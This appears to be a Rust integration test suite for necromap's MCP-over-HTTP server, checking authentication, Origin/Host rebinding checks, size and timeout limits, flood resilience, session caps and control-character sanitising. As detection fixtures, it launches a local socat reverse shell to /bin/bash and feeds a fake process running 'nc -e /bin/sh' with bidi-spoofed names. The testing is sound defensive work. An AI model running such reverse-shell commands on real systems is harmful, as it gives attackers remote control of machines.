//! The MCP server over Streamable HTTP (`--mcp --http`), on 127.0.0.1
//! only: the gate answers 401 without the token, 403 for a foreign Origin
//! or Host, 413 for an oversized body, and 200 for a proper request; a
//! generated token lands in a 0600 file; a non-loopback bind is refused
//! without its flag. Each server child is killed and reaped by its guard.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::time::Duration;

mod common;

use common::mcp::{BIN, INIT, Server, TOKEN, bearer, call_tool, exchange, result_of, session_of, start_command};

/// Start `necromap --mcp --http 127.0.0.1:0 --demo` and read the address it bound from its stderr.
fn start(configure: impl FnOnce(&mut Command)) -> Server {
    let mut cmd = Command::new(BIN);
    cmd.args(["--mcp", "--http", "127.0.0.1:0", "--demo"]);
    configure(&mut cmd);
    start_command(cmd)
}

/// One HTTP request; returns the status code and the head of the response.
fn request(addr: SocketAddr, headers: &[(&str, &str)], body: &str) -> (u16, String) {
    let mut s = TcpStream::connect(addr).expect("connect");
    s.set_read_timeout(Some(Duration::from_secs(10))).expect("timeout");
    let mut head = format!(
        "POST /mcp HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nContent-Length: {}\r\nConnection: close\r\n",
        body.len()
    );
    for (k, v) in headers {
        head.extend([*k, ": ", *v, "\r\n"]);
    }
    head.push_str("\r\n");
    s.write_all(head.as_bytes()).expect("write head");
    // An oversized body may be refused before it is all sent.
    let _ = s.write_all(body.as_bytes());
    let mut buf = vec![0u8; 4096];
    let mut got = Vec::new();
    while !got.windows(4).any(|w| w == b"\r\n\r\n") {
        match s.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => got.extend_from_slice(&buf[..n]),
        }
    }
    let text = String::from_utf8_lossy(&got).into_owned();
    let status = text.split_whitespace().nth(1).and_then(|c| c.parse().ok()).unwrap_or(0);
    (status, text)
}

#[test]
fn the_gate_answers_401_403_413_and_200() {
    let server = start(|c| {
        c.env("NECROMAP_MCP_TOKEN", TOKEN);
    });
    assert!(server.banner.contains("token from NECROMAP_MCP_TOKEN"), "{}", server.banner);
    let a = server.addr;
    let auth = bearer();

    let (status, head) = request(a, &[], INIT);
    assert_eq!(status, 401, "{head}");
    assert!(head.to_ascii_lowercase().contains("www-authenticate: bearer"), "{head}");
    assert_eq!(request(a, &[("Authorization", "Bearer wrong-token")], INIT).0, 401);
    assert_eq!(request(a, &[("Authorization", TOKEN)], INIT).0, 401, "the Bearer scheme is required");

    assert_eq!(request(a, &[("Authorization", &auth), ("Origin", "https://evil.example")], INIT).0, 403);
    assert_eq!(request(a, &[("Origin", "https://evil.example")], INIT).0, 403, "a foreign Origin is refused before the token is looked at");
    let own = format!("http://127.0.0.1:{}", a.port());
    assert_eq!(request(a, &[("Authorization", &auth), ("Origin", &own)], INIT).0, 200);
    assert_eq!(request(a, &[("Authorization", &auth)], INIT).0, 200);

    // A Host that is not this machine's loopback name (DNS rebinding).
    let mut s = TcpStream::connect(a).expect("connect");
    s.set_read_timeout(Some(Duration::from_secs(10))).expect("timeout");
    let raw = format!(
        "POST /mcp HTTP/1.1\r\nHost: evil.example\r\nAuthorization: {auth}\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{INIT}",
        INIT.len()
    );
    s.write_all(raw.as_bytes()).expect("write");
    let mut head = String::new();
    let _ = BufReader::new(s).read_line(&mut head);
    let status: u16 = head.split_whitespace().nth(1).and_then(|c| c.parse().ok()).unwrap_or(0);
    assert!((400..500).contains(&status), "foreign Host: {head}");

    let huge = format!("{{\"pad\":\"{}\"}}", "x".repeat(2 << 20));
    assert_eq!(request(a, &[("Authorization", &auth)], &huge).0, 413);

    // Only /mcp is served.
    let mut s = TcpStream::connect(a).expect("connect");
    s.set_read_timeout(Some(Duration::from_secs(10))).expect("timeout");
    s.write_all(format!("GET /other HTTP/1.1\r\nHost: {a}\r\nAuthorization: {auth}\r\nConnection: close\r\n\r\n").as_bytes()).expect("write");
    let mut head = String::new();
    let _ = BufReader::new(s).read_line(&mut head);
    assert!(head.contains(" 404 "), "{head}");
}

#[test]
fn a_generated_token_is_written_to_a_private_file() {
    use std::os::unix::fs::PermissionsExt;
    let runtime = tempfile::tempdir().expect("tmp");
    let server = start(|c| {
        c.env_remove("NECROMAP_MCP_TOKEN").env("XDG_RUNTIME_DIR", runtime.path());
    });
    let path = runtime.path().join("necromap").join("mcp-token");
    assert!(server.banner.contains(&path.display().to_string()), "{}", server.banner);
    assert_eq!(std::fs::metadata(&path).expect("token file").permissions().mode() & 0o777, 0o600);
    let token = std::fs::read_to_string(&path).expect("read").trim().to_string();
    assert!(token.len() >= 32, "{token}");
    assert_eq!(request(server.addr, &[("Authorization", &format!("Bearer {token}"))], INIT).0, 200);
    assert_eq!(request(server.addr, &[("Authorization", &bearer())], INIT).0, 401);
}

#[test]
fn a_non_loopback_address_needs_its_flag() {
    let out = Command::new(BIN).args(["--mcp", "--http", "0.0.0.0:0", "--demo"]).env("NECROMAP_MCP_TOKEN", TOKEN).stdin(Stdio::null()).output().expect("run");
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("--mcp-allow-remote"), "{err}");
    let out =
        Command::new(BIN).args(["--mcp", "--http", "127.0.0.1:0", "--demo"]).env("NECROMAP_MCP_TOKEN", "short").stdin(Stdio::null()).output().expect("run");
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("at least 16 characters"));
}

#[test]
fn slow_clients_do_not_stall_the_server() {
    let server = start(|c| {
        c.env("NECROMAP_MCP_TOKEN", TOKEN);
    });
    // Twenty clients that send half a request and stop, and one that sends
    // a body far slower than it promised.
    let mut stalled: Vec<TcpStream> = (0..20)
        .map(|_| {
            let mut s = TcpStream::connect(server.addr).expect("connect");
            s.write_all(b"POST /mcp HTTP/1.1\r\nHost: 127.0.0.1\r\n").expect("partial head");
            s
        })
        .collect();
    let mut slow = TcpStream::connect(server.addr).expect("connect");
    slow.write_all(format!("POST /mcp HTTP/1.1\r\nHost: {}\r\nAuthorization: {}\r\nContent-Length: 100000\r\n\r\n{{", server.addr, bearer()).as_bytes())
        .expect("slow head");
    stalled.push(slow);
    let t = std::time::Instant::now();
    assert_eq!(request(server.addr, &[("Authorization", &bearer())], INIT).0, 200);
    assert!(t.elapsed() < Duration::from_secs(5), "answered in {:?} beside stalled clients", t.elapsed());
    drop(stalled);
}

/// Open descriptors of a process.
fn fd_count(pid: u32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(0, Iterator::count)
}

#[test]
fn a_flood_of_connections_cannot_blind_the_collector_or_lock_out_a_client() {
    // The server on the live host (it reads /proc every second) with the
    // common 1,024-descriptor limit; a reverse shell on 127.0.0.1; and a
    // flood that keeps 1,100 idle connections open, opening new ones as
    // fast as it can.
    {
        use rustix::process::{Resource, getrlimit, setrlimit};
        let mut lim = getrlimit(Resource::Nofile);
        lim.current = lim.maximum;
        let _ = setrlimit(Resource::Nofile, lim);
    }
    common::require("prlimit");
    common::require("socat");
    let attacker = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = attacker.local_addr().expect("addr").port();
    let mut socat = Command::new("socat");
    socat.args([format!("TCP:127.0.0.1:{port}"), "EXEC:/bin/bash".into()]);
    let _shell = common::spawn_group(socat);
    let _peer = attacker.accept().expect("the reverse shell connects");

    let mut cmd = Command::new("prlimit");
    cmd.args(["--nofile=1024:1024", "--", BIN, "--mcp", "--http", "127.0.0.1:0", "--no-store", "--no-trace"]).env("NECROMAP_MCP_TOKEN", TOKEN);
    let server = start_command(cmd);
    let pid = server.child.id();
    std::thread::sleep(Duration::from_millis(500));
    let base = fd_count(pid);
    assert!(base > 0, "the server's descriptors are readable");

    let stop = std::sync::Arc::new(AtomicBool::new(false));
    let opened = std::sync::Arc::new(AtomicUsize::new(0));
    let flood = {
        let (stop, opened, addr) = (stop.clone(), opened.clone(), server.addr);
        std::thread::spawn(move || {
            let mut open = std::collections::VecDeque::new();
            while !stop.load(Ordering::Relaxed) {
                if let Ok(s) = TcpStream::connect(addr) {
                    opened.fetch_add(1, Ordering::Relaxed);
                    open.push_back(s);
                    if open.len() > 1_100 {
                        open.pop_front();
                    }
                }
            }
        })
    };
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    while opened.load(Ordering::Relaxed) < 1_100 && std::time::Instant::now() < deadline {
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(opened.load(Ordering::Relaxed) >= 1_100, "the flood opened only {} connections", opened.load(Ordering::Relaxed));
    // While the flood runs: the server holds at most its cap, and a client
    // with the token gets the reverse shell, critical, without waiting for
    // the flood's connections to time out.
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    let (mut peak, mut answer, mut last_error) = (0, None, String::new());
    while std::time::Instant::now() < deadline && answer.is_none() {
        peak = peak.max(fd_count(pid));
        match call_tool(server.addr, "get_suspicious_connections", r#"{"min_severity":"critical"}"#) {
            Ok(body) if body.contains("reverse_shell") && body.contains(&format!("127.0.0.1:{port}")) => answer = Some(body),
            Ok(body) => last_error = format!("no reverse shell yet: {}", &body[..body.len().min(300)]),
            Err(e) => last_error = e.to_string(),
        }
        std::thread::sleep(Duration::from_millis(200));
    }
    for _ in 0..10 {
        peak = peak.max(fd_count(pid));
        std::thread::sleep(Duration::from_millis(50));
    }
    stop.store(true, Ordering::Relaxed);
    flood.join().expect("flood thread");
    eprintln!("flood: {} connections opened; server descriptors {base} at rest, {peak} at most", opened.load(Ordering::Relaxed));
    assert!(answer.is_some(), "during the flood no answer showed the reverse shell: {last_error}");
    assert!(peak <= base + necromap::mcp::http::DEFAULT_MAX_CONNECTIONS + 8, "descriptors held: {peak} (base {base}, cap 64)");
}

#[test]
fn the_bearer_scheme_is_case_insensitive_and_a_huge_declared_body_is_refused_at_once() {
    let server = start(|c| {
        c.env("NECROMAP_MCP_TOKEN", TOKEN);
    });
    assert_eq!(request(server.addr, &[("Authorization", &format!("bearer {TOKEN}"))], INIT).0, 200);
    assert_eq!(request(server.addr, &[("Authorization", &format!("BEARER {TOKEN}"))], INIT).0, 200);
    assert_eq!(request(server.addr, &[("Authorization", &format!("Basic {TOKEN}"))], INIT).0, 401);
    // Content-Length of 10 GB with one byte sent: refused without waiting.
    let mut s = TcpStream::connect(server.addr).expect("connect");
    s.set_read_timeout(Some(Duration::from_secs(5))).expect("timeout");
    let t = std::time::Instant::now();
    s.write_all(format!("POST /mcp HTTP/1.1\r\nHost: {}\r\nAuthorization: {}\r\nContent-Length: 10000000000\r\n\r\n{{", server.addr, bearer()).as_bytes())
        .expect("write");
    let mut buf = [0u8; 64];
    let n = s.read(&mut buf).expect("an answer, not a hang");
    assert!(String::from_utf8_lossy(&buf[..n]).contains(" 413 "), "{}", String::from_utf8_lossy(&buf[..n]));
    assert!(t.elapsed() < Duration::from_secs(3), "answered in {:?}", t.elapsed());
}

#[test]
fn sessions_are_capped_and_the_least_recently_used_makes_room() {
    let server = start(|c| {
        c.env("NECROMAP_MCP_TOKEN", TOKEN).args(["--mcp-max-sessions", "8"]);
    });
    let auth = bearer();
    let mut ids = Vec::new();
    for _ in 0..40 {
        let (status, head) = request(server.addr, &[("Authorization", &auth)], INIT);
        assert_eq!(status, 200, "{head}");
        ids.push(session_of(&head).expect("a session id"));
    }
    let list = r#"{"jsonrpc":"2.0","id":2,"method":"tools/list","params":{}}"#;
    let ask = |id: &str| request(server.addr, &[("Authorization", &auth), ("Mcp-Session-Id", id), ("Mcp-Protocol-Version", "2025-03-26")], list).0;
    assert_eq!(ask(&ids[0]), 404, "the oldest session was closed to make room");
    assert_ne!(ask(&ids[39]), 404, "the newest session lives");
}

#[test]
fn a_trickled_body_times_out_and_malformed_messages_are_answered() {
    let server = start(|c| {
        c.env("NECROMAP_MCP_TOKEN", TOKEN);
    });
    // A body promised at 1,000 bytes and never sent: 408 within the body timeout.
    let mut s = TcpStream::connect(server.addr).expect("connect");
    s.set_read_timeout(Some(necromap::mcp::http::BODY_TIMEOUT + Duration::from_secs(5))).expect("timeout");
    let t = std::time::Instant::now();
    s.write_all(format!("POST /mcp HTTP/1.1\r\nHost: {}\r\nAuthorization: {}\r\nContent-Length: 1000\r\n\r\n{{", server.addr, bearer()).as_bytes())
        .expect("write");
    let mut buf = [0u8; 64];
    let n = s.read(&mut buf).expect("an answer, not a hang");
    assert!(String::from_utf8_lossy(&buf[..n]).contains(" 408 "), "{}", String::from_utf8_lossy(&buf[..n]));
    assert!(t.elapsed() < necromap::mcp::http::BODY_TIMEOUT + Duration::from_secs(3), "answered in {:?}", t.elapsed());
    // Not JSON: a parse error; array params: invalid params with the id.
    let (status, _, body) = exchange(server.addr, None, "hello").expect("exchange");
    assert_eq!(status, 400);
    assert!(body.contains("-32700") && body.contains("\"id\":null"), "{body}");
    let (status, _, body) = exchange(server.addr, None, r#"{"jsonrpc":"2.0","id":9,"method":"tools/list","params":[]}"#).expect("exchange");
    assert_eq!(status, 400);
    assert!(body.contains("-32602") && body.contains("\"id\":9"), "{body}");
}

#[test]
fn no_answer_exceeds_one_megabyte_and_lists_say_where_to_go_on() {
    // 3,000 sockets of one process with a 2 KB command line.
    let dir = tempfile::tempdir().expect("tmp");
    let scenario = dir.path().join("many.yaml");
    let cmdline = format!("worker --payload {}", "x".repeat(2_000));
    std::fs::write(
        &scenario,
        format!(
            "host: big\nframes: 1\nprocesses:\n  - {{ pid: 500, ppid: 1, name: worker, exe: /usr/bin/worker, cmdline: \"{cmdline}\", uid: 1000 }}\nsockets:\n  - {{ pid: 500, local: \"10.0.0.5:40000\", remote: \"198.51.100.7:443\", state: ESTABLISHED, count: 3000, vary: local }}\n"
        ),
    )
    .expect("write scenario");
    let server = start_command({
        let mut c = Command::new(BIN);
        c.args(["--mcp", "--http", "127.0.0.1:0", "--no-store", "--replay"]).arg(&scenario).env("NECROMAP_MCP_TOKEN", TOKEN);
        c
    });
    let body = call_tool(server.addr, "list_connections", r#"{"limit":10000}"#).expect("call");
    assert!(body.len() <= necromap::mcp::dto::ANSWER_MAX + 4096, "answer of {} bytes", body.len());
    let result = result_of(&body);
    let page = &result["structuredContent"];
    let returned = page["connections"].as_array().expect("connections").len();
    assert_eq!(page["total"], 3000, "{}", &body[..300]);
    assert!(returned > 50 && returned < 3000, "a page cut by size: {returned}");
    assert_eq!(page["next_offset"].as_u64(), Some(returned as u64));
    // The next page starts there.
    let body = call_tool(server.addr, "list_connections", &format!(r#"{{"limit":10000,"offset":{returned}}}"#)).expect("call");
    assert!(body.len() <= necromap::mcp::dto::ANSWER_MAX + 4096);
    assert_eq!(result_of(&body)["structuredContent"]["offset"].as_u64(), Some(returned as u64));
    // The snapshot resource is over the bound too: it says so and where to go.
    let (_, session, _) = exchange(server.addr, None, INIT).expect("initialize");
    let read = r#"{"jsonrpc":"2.0","id":3,"method":"resources/read","params":{"uri":"necromap://snapshot"}}"#;
    let (_, _, body) = exchange(server.addr, session.as_deref(), read).expect("read");
    assert!(body.len() <= necromap::mcp::dto::ANSWER_MAX, "resource answer of {} bytes", body.len());
    assert!(body.contains("truncated") && body.contains("list_connections"), "{}", &body[..body.len().min(400)]);
}

#[test]
fn c1_del_and_bidi_controls_never_reach_an_mcp_answer_raw() {
    let dir = tempfile::tempdir().expect("tmp");
    let scenario = dir.path().join("hostile.yaml");
    std::fs::write(
        &scenario,
        "host: \"h\\u202eost\"\nframes: 1\nprocesses:\n  - { pid: 500, ppid: 1, name: \"evil\\u009b31m\\u202efdp\", exe: \"/tmp/\\u2066x\", cmdline: \"nc \\u0085\\u007f\\u200e -e /bin/sh\", uid: 1000, stdio_sockets: [0, 1, 2] }\nsockets:\n  - { pid: 500, local: \"10.0.0.5:40000\", remote: \"198.51.100.7:4444\", state: ESTABLISHED }\n",
    )
    .expect("write scenario");
    let server = start_command({
        let mut c = Command::new(BIN);
        c.args(["--mcp", "--http", "127.0.0.1:0", "--no-store", "--replay"]).arg(&scenario).env("NECROMAP_MCP_TOKEN", TOKEN);
        c
    });
    let raw = |c: char| matches!(c, '\u{7f}' | '\u{80}'..='\u{9f}' | '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let mut seen_process = false;
    for (tool, args) in [
        ("list_processes", "{}"),
        ("list_connections", "{}"),
        ("get_suspicious_connections", r#"{"min_severity":"low"}"#),
        ("analyze_connections", "{}"),
        ("explain_connection", r#"{"pid":500}"#),
    ] {
        let body = call_tool(server.addr, tool, args).unwrap_or_else(|e| panic!("{tool}: {e}"));
        assert!(!body.chars().any(raw), "{tool} passed a control character raw: {body}");
        seen_process |= body.contains("evil");
    }
    assert!(seen_process, "the hostile process was in the answers");
    let (_, session, _) = exchange(server.addr, None, INIT).expect("initialize");
    for uri in ["necromap://snapshot", "dashboard://summary"] {
        let read = format!(r#"{{"jsonrpc":"2.0","id":3,"method":"resources/read","params":{{"uri":"{uri}"}}}}"#);
        let (_, _, body) = exchange(server.addr, session.as_deref(), &read).expect("read");
        assert!(body.contains("evil") || uri != "necromap://snapshot", "{uri}: {}", &body[..body.len().min(300)]);
        assert!(!body.chars().any(raw), "{uri} passed a control character raw");
    }
}

#[test]
fn list_connections_takes_the_explorers_filter_language_with_its_errors() {
    let server = start(|c| {
        c.env("NECROMAP_MCP_TOKEN", TOKEN);
    });
    let body = call_tool(server.addr, "list_connections", r#"{"filter":"sev>=critical"}"#).expect("call");
    let page = result_of(&body)["structuredContent"].clone();
    let rows = page["connections"].as_array().expect("rows").clone();
    assert!(!rows.is_empty(), "the demo has a critical socket: {body}");
    assert!(rows.iter().all(|r| r["severity"] == "critical"), "{rows:?}");
    let body = call_tool(server.addr, "list_connections", r#"{"filter":"!state:listen proc:nginx"}"#).expect("call");
    let rows = result_of(&body)["structuredContent"]["connections"].as_array().expect("rows").clone();
    assert!(rows.iter().all(|r| r["process"] == "nginx" && r["state"] != "LISTEN"), "{rows:?}");
    // A bad term: the same sentence the explorer shows.
    let expected = necromap::filter::Filter::parse("port:htttp").expect_err("bad").to_string();
    let body = call_tool(server.addr, "list_connections", r#"{"filter":"port:htttp"}"#).expect("call");
    let result = result_of(&body);
    assert_eq!(result["isError"], true, "{body}");
    assert!(result.to_string().contains(&expected), "{expected} not in {body}");
}

/// Peak resident memory of a process, in MiB (`VmHWM`).
fn peak_rss_mib(pid: u32) -> f64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.split_whitespace().next())
        .and_then(|k| k.parse::<f64>().ok())
        .map_or(0.0, |kb| kb / 1024.0)
}

#[test]
fn a_session_flood_stays_within_memory() {
    let server = start(|c| {
        c.env("NECROMAP_MCP_TOKEN", TOKEN);
    });
    let before = peak_rss_mib(server.child.id());
    let auth = bearer();
    let mut answered = 0;
    for _ in 0..3_000 {
        if request(server.addr, &[("Authorization", &auth)], INIT).0 == 200 {
            answered += 1;
        }
    }
    let peak = peak_rss_mib(server.child.id());
    eprintln!("3,000 initialize-only sessions: peak RSS {before:.0} MiB before, {peak:.0} MiB after");
    assert_eq!(answered, 3_000);
    // Uncapped, each session kept ~63 KiB (15,000 took 947 MB): 3,000 would
    // grow the server by ~190 MiB. Capped at 256, the growth stays small.
    assert!(peak > 0.0 && peak < 200.0 && peak - before < 100.0, "peak RSS {peak:.0} MiB ({before:.0} before)");
}

/// `DELETE /mcp` of a session; returns the status.
fn delete(addr: SocketAddr, session: &str) -> u16 {
    let mut s = TcpStream::connect(addr).expect("connect");
    s.set_read_timeout(Some(Duration::from_secs(10))).expect("timeout");
    let head = format!(
        "DELETE /mcp HTTP/1.1\r\nHost: {addr}\r\nAuthorization: {}\r\nMcp-Session-Id: {session}\r\nMcp-Protocol-Version: 2025-06-18\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
        bearer()
    );
    s.write_all(head.as_bytes()).expect("write");
    let mut got = Vec::new();
    let _ = s.read_to_end(&mut got);
    String::from_utf8_lossy(&got).split_whitespace().nth(1).and_then(|c| c.parse().ok()).unwrap_or(0)
}

#[test]
fn deleting_a_session_says_200_once_then_404() {
    let server = start(|c| {
        c.env("NECROMAP_MCP_TOKEN", TOKEN);
    });
    let auth = bearer();
    let (status, head) = request(server.addr, &[("Authorization", &auth)], INIT);
    assert_eq!(status, 200, "{head}");
    let id = session_of(&head).expect("a session id");
    assert_eq!(delete(server.addr, &id), 200, "a live session ends with 200 (clients log 202 as a failed termination)");
    assert_eq!(delete(server.addr, &id), 404, "an ended session is unknown");
    assert_eq!(delete(server.addr, "no-such-session"), 404);
    let list = r#"{"jsonrpc":"2.0","id":2,"method":"tools/list","params":{}}"#;
    let (status, _) = request(server.addr, &[("Authorization", &auth), ("Mcp-Session-Id", &id), ("Mcp-Protocol-Version", "2025-06-18")], list);
    assert_eq!(status, 404, "the ended session answers nothing more");
    // Without the token, a DELETE is refused before anything is looked up.
    let mut s = TcpStream::connect(server.addr).expect("connect");
    s.write_all(format!("DELETE /mcp HTTP/1.1\r\nHost: {}\r\nMcp-Session-Id: {id}\r\nConnection: close\r\n\r\n", server.addr).as_bytes()).expect("write");
    let mut got = String::new();
    let _ = s.read_to_string(&mut got);
    assert!(got.starts_with("HTTP/1.1 401"), "{got}");
}
